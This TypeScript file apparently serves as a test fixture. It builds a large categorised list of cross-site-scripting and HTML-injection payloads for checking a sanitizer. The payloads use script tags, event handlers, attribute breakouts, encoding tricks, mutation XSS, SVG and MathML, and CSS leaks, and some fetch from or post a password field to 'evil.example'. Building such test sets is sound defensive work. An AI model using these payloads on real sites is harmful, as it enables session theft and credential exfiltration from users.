import * as parts from './payload-parts.ts';

type Payload = { kind: string; text: string };

/**
 * Attacks by kind. RUN calls `hit` with ARGUMENTS, and HOST must not receive requests.
 * Frames and images over https are allowed in texts, so they are not attacks.
 */
const attacks: Record<string, string[]> = {
  tags: [
    ...['script', 'SCRIPT', 'ScRiPt', 'svg:script', 'x:script'].map((tag) => `<${tag}>RUN</${tag}>`),
    ...parts.spaces.map((space) => `<script${space}>RUN</script${space}>`),
    ...parts.spaces.map((space) => `<img${space}src=x${space}onerror=RUN>`),
    ...['<script>RUN', '<<script>RUN//<</script>', '<scr<script>ipt>RUN</scr</script>ipt>'],
    ...['<script type=module>RUN</script>', '<script async defer>RUN</script>'],
    '<script src=//HOST/a.js></script>',
    '<script type="text/javascript" src="http://HOST/a.js"></script>',
    '<meta http-equiv=refresh content="0;url=http://HOST/">',
    '<meta http-equiv=refresh content="0;url=javascript:RUN">',
    `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>RUN</script>`,
    ...['<!--><script>RUN</script>-->', '<!DOCTYPE x [<!ENTITY e "<script>RUN</script>">]>&e;'],
    ...['<?xml-stylesheet href="javascript:RUN"?>', '<![CDATA[<script>RUN</script>]]>'],
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.RUN&lt;/script&gt;"></iframe>',
    ...['<portal src="javascript:RUN"></portal>', '<isindex action="javascript:RUN" type=submit value=x>'],
  ],
  handlers: [
    ...parts.handlers.map((handler) => `<img src=x ${handler}=RUN>`),
    ...parts.handlers.map((handler) => `<p tabindex=1 ${handler}="RUN" id=x autofocus>a</p>`),
    ...parts.handlerTags.map((tag) => `<${tag} onload=RUN onerror=RUN onfocus=RUN ontoggle=RUN open src=x>`),
    ...['<img src=x onerror="\\u0068itARGUMENTS">', "<img src=x onerror=window['h'+'it']ARGUMENTS>"],
    ...['<input autofocus onfocus=RUN>', '<details open ontoggle="RUN"><summary>a</summary></details>'],
    '<video><source onerror="RUN"></video>',
    '<button popovertarget=x>a</button><p popover id=x onbeforetoggle=RUN>b</p>',
    '<img src=x oNeRrOr=RUN>',
  ],
  attributes: [
    ...parts.closers.map((closer) => `${closer}<img src=x onerror=RUN>`),
    ...['"', "'", '`', ''].map((quote) => `x${quote} onmouseover=${quote}RUN${quote} autofocus ${quote}`),
    ...['"', "'"].map((quote) => `${quote} style=${quote}animation:x${quote} onanimationstart=${quote}RUN`),
    ...['"', "'"].map((quote) => `${quote} dangerouslySetInnerHTML=${quote}x${quote} ref=${quote}x`),
    ...['\\"><img src=x onerror=RUN>', '&quot;&gt;&lt;img src=x onerror=RUN&gt;'],
    '%22%3E%3Cimg src=x onerror=RUN%3E',
  ],
  schemes: [
    ...parts.schemes.flatMap((scheme) =>
      parts.linkAttributes.slice(0, 3).map((attribute) => `<${attribute}="${scheme}RUN">a</a>`),
    ),
    ...parts.dataUrls.flatMap((kind) =>
      parts.linkAttributes.slice(3).map((attribute) => `<${attribute}="${kind}<script>parent.RUN</script>">`),
    ),
    ...parts.schemes.map((scheme) => `${scheme}RUN`),
  ],
  fetching: [
    ...['http:', ''].flatMap((scheme) =>
      parts.fetchAttributes.map((name) => `<${name}="${scheme}//HOST/${name.replaceAll(/\W/g, '-')}">`),
    ),
    ...['/\\', '\\\\', '/\t/', '///', '////', 'http:'].map((start) => `<img src="${start}HOST/i.png">`),
    ...['<a ping="http://HOST/ping" href="/">a</a>', '<img src=/mark.svg srcset="http://HOST/s.png 2x">'],
    '<form action="http://HOST/f"><input name=password><input type=submit></form>',
    '<style>@import "http://HOST/s.css";</style>',
  ],
  encodings: [
    ...['&lt;script&gt;RUN&lt;/script&gt;', '&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;'],
    ...['&#60;script&#62;RUN&#60;/script&#62;', '&#x3c;img src=x onerror=RUN&#x3e;'],
    ...['&#x0003C;img src=x onerror=RUN&#x0003E;', '&ltimg src=x onerror=RUN&gt'],
    ...['&LT;img src=x onerror=RUN&GT;', '%3Cscript%3ERUN%3C/script%3E'],
    ...['%253Cscript%253ERUN%253C/script%253E', '\\u003cscript\\u003eRUN\\u003c/script\\u003e'],
    ...['\\x3cscript\\x3eRUN\\x3c/script\\x3e', '+ADw-script+AD4-RUN+ADw-/script+AD4-'],
    ...['\uff1cscript\uff1eRUN\uff1c/script\uff1e', '\u2039script\u203aRUN\u2039/script\u203a'],
    ...['%c0%bcscript%c0%beRUN', '&#x26;lt;img src=x onerror=RUN&#x26;gt;', '=3Cscript=3ERUN=3C/script=3E'],
  ],
  mutation: [
    ...parts.rawTextTags.map((tag) => `<${tag}><p title="</${tag}><img src=x onerror=RUN>"></${tag}>`),
    ...parts.rawTextTags.map((tag) => `<svg><${tag}><img src=x onerror=RUN></${tag}></svg>`),
    ...parts.rawTextTags.map((tag) => `<math><mtext><${tag}><img src=x onerror=RUN></${tag}></mtext></math>`),
    `${'<div>'.repeat(600)}<img src=x onerror=RUN>`,
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">',
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    '<p id="</noscript><img src=x onerror=RUN>"><noscript>',
    '<table><td><table><caption><svg><desc><style><a title="</style><img src onerror=RUN>">',
    '<a><b><a><svg><title><style><img title="</style></title></svg><img src onerror=RUN>">',
    '<select><template><style></select><img src=x onerror=RUN></style></template>',
    '<p id=root name=body></p><form id=config><input name=attributes onfocus=RUN autofocus></form>',
    '<img name=getElementById><img name=body src=x onerror=RUN>',
  ],
  svg: [
    ...['<svg onload=RUN>', '<svg/onload=RUN//', '<svg><script>RUN</script></svg>'],
    '<svg><script href="data:text/javascript,RUN"/></svg>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
    '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=20>a</text></a></svg>',
    '<svg><set attributeName=onload to="RUN"/></svg>',
    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>',
    '<svg><handler type="text/javascript">RUN</handler></svg>',
    '<svg><image href="http://HOST/i.svg"/><feImage xlink:href="http://HOST/f.svg"/></svg>',
    '<math href="javascript:RUN">a</math>',
    '<math><maction actiontype=statusline xlink:href="javascript:RUN">a</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    '<math><mi><mglyph><svg><img src=x onerror=RUN></svg></mglyph></mi></math>',
  ],
  templates: [...parts.templateTexts],
  styles: [
    '<style>*{behavior:url(javascript:RUN)}</style>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=RUN>a</p>',
    ...['<p style="width:expression(RUN)">a</p>', '<p style="-moz-binding:url(javascript:RUN)">a</p>'],
    '<p style="background:url(http://HOST/b.png)">a</p>',
    '<p style="position:fixed;inset:0;z-index:99999;background:url(//HOST/o)">a</p>',
    '<style>input[value^=a]{background:url(http://HOST/a)}</style>',
    '<style>@font-face{font-family:x;src:url(http://HOST/f)}*{font-family:x}</style>',
    ...['<link rel=stylesheet href=http://HOST/l.css>', '<style>*{display:none}</style>'],
    ...['<p style="content:\\22\\3e">a</p>', '</style><style>body{visibility:hidden}</style>'],
  ],
  unicode: [
    ...parts.invisibleCharacters.map((sign) => `<${sign}script>RUN</script>`),
    ...parts.invisibleCharacters.map((sign) => `java${sign}script:RUN`),
    ...parts.invisibleCharacters.map((sign) => `a${sign}b${sign}gpj.exe`),
    `z${'\u0300'.repeat(60)}`,
    ...['<ſcript>RUN</ſcript>', '<ımg src=x onerror=RUN>', '\u{1F525}<img src=x onerror=RUN>\u{1F525}'],
    ...['\u202egnp.exe\u202c', '\u2066admin\u2069@fire.example'],
  ],
  markdown: [
    ...['[a](javascript:RUN)', '![a](x"onerror="RUN)', '[a]: javascript:RUN', '<javascript:RUN>'],
    ...['```<script>RUN</script>```', '![a](http://HOST/i.png)', '[a](data:text/html,<script>RUN</script>)'],
  ],
  breakouts: [
    ...['</script><script>RUN</script>', '";RUN;"', "'-RUN-'", "\\'-RUN//"],
    ...['</ScRiPt ><img src=x onerror=RUN>', '<!--<script>RUN', '\u2028RUN\u2029'],
    ...['{"__proto__":{"html":"<img src=x onerror=RUN>"}}', ']]]]><![CDATA[><script>RUN</script>', '*/RUN/*'],
    '"}</script><script>RUN</script>{"',
  ],
  formulas: [...parts.formulaTexts],
  lines: [...parts.brokenLines],
};

/** Each payload calls `hit` with a different number. */
export const payloads: Payload[] = Object.entries(attacks)
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
  .map(({ kind, text }, number) => {
    const args = `(${number})`;
    const filled = text.replaceAll('RUN', `hit${args}`).replaceAll('ARGUMENTS', args);
    return { kind, text: filled.replaceAll('HOST', 'evil.example') };
  });
